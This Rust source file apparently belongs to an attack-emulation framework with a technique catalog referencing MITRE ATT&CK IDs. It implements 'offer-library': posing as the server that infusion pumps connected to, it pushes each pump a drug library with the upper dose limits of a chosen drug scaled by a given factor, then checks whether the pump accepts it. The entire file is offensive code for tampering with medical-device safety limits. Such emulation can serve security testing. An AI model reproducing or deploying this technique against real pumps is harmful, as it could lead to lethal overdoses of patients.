//! Offers an altered drug library to the pumps that took the attacker for their server.

use super::push_drug_library::altered;
use super::spoof_server::{opened, wrap};
use super::{Progress, Step, Technique};
use crate::catalog::{Entry, Parameter, ParameterKind};
use crate::net::port::{Input, SocketEvent};
use crate::rng::Purpose;
use crate::wire::pump::PumpMessage;

/// Technique `offer-library`.
#[derive(Debug)]
pub(super) struct OfferLibrary;

static ENTRY: Entry = Entry {
    id: "offer-library",
    title: "Offer an altered drug library as a server",
    summary: "Offers a library with scaled limits on every session that a pump opened to the impersonated server.",
    parameters: &[
        Parameter {
            name: "drug",
            kind: ParameterKind::Text,
            required: true,
            doc: "drug whose upper limits are scaled",
        },
        Parameter {
            name: "factor",
            kind: ParameterKind::Factor,
            required: true,
            doc: "factor on the upper limits",
        },
        Parameter {
            name: "version",
            kind: ParameterKind::Integer,
            required: false,
            doc: "version claimed; 100 if not given",
        },
    ],
    references: &["T1565.002", "T0843", "T0836"],
};

const LUCK: Purpose = Purpose::new("spoofed server offer");

impl Technique for OfferLibrary {
    fn entry(&self) -> &'static Entry {
        &ENTRY
    }

    fn stages(&self) -> &'static [&'static str] {
        &["offer", "offered", "accepted"]
    }

    fn act(&self, step: &mut Step<'_, '_, '_>, input: &Input) -> Progress {
        match input {
            Input::Begin => {
                let Some(offer) = altered(step) else {
                    return Progress::Failed("knows no library to alter");
                };
                let mut offered = false;
                for captured in step.knowledge.captured.iter().filter(|c| c.greeted) {
                    step.hands.send(
                        captured.stream,
                        wrap(captured, PumpMessage::LibraryOffer(offer.clone())),
                    );
                    offered = true;
                }
                if offered {
                    Progress::Reached(1)
                } else {
                    Progress::Failed("no pump came")
                }
            }
            Input::Socket(SocketEvent::Message { stream, message }) => {
                step.state.tries += 1;
                let mut luck = step.hands.luck(LUCK, u64::from(step.state.tries));
                match opened(step.hands, step.knowledge, &mut luck, *stream, message).0 {
                    Some(PumpMessage::LibraryAnswer { accepted: true, .. }) => {
                        Progress::Done("library accepted")
                    }
                    Some(PumpMessage::LibraryAnswer {
                        accepted: false, ..
                    }) => Progress::Failed("library refused"),
                    _ => Progress::Wait,
                }
            }
            _ => Progress::Wait,
        }
    }
}
